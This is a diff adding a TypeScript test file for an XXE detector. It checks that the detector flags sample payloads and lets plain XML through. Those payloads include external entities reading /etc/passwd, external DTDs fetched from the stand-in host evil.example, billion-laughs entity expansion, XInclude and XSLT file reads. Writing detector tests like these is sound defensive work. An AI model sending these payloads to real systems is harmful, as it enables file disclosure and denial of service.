@@ -1,0 +1,43 @@
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import { viewsOf } from '../../decode/views.ts';
+import type { InputKind } from '../../types.ts';
+import { xxeDetector } from './xxe.ts';
+
+/** The strongest score the detector gives one value. */
+function strongest(value: string, kind: InputKind = 'query', location = 'query.q'): number {
+  return Math.max(0, ...xxeDetector.detect(viewsOf(value), kind, location).map((hit) => hit.score));
+}
+
+/** The rules the detector reports for one value. */
+function rules(value: string, kind: InputKind = 'query', location = 'query.q'): string[] {
+  return xxeDetector.detect(viewsOf(value), kind, location).map((hit) => hit.rule);
+}
+
+describe('xxe detector', () => {
+  test('finds external entities, parameter entities and external DTDs', () => {
+    assert.ok(
+      rules('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>').includes(
+        'xxe.external-entity',
+      ),
+    );
+    assert.equal(strongest('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'), 5);
+    assert.equal(strongest('<!DOCTYPE note SYSTEM "http://evil.example/note.dtd">'), 5);
+  });
+
+  test('finds entity expansion, XInclude and file-reading XSLT', () => {
+    assert.equal(strongest('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>'), 5);
+    assert.equal(
+      strongest('<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></x>'),
+      5,
+    );
+    assert.equal(
+      strongest('<xsl:stylesheet><xsl:copy-of select="document(\'/etc/passwd\')"/></xsl:stylesheet>'),
+      5,
+    );
+  });
+
+  test('lets ordinary XML through', () => {
+    assert.equal(strongest('<?xml version="1.0"?><order id="1"><item>tea</item></order>'), 0);
+  });
+});
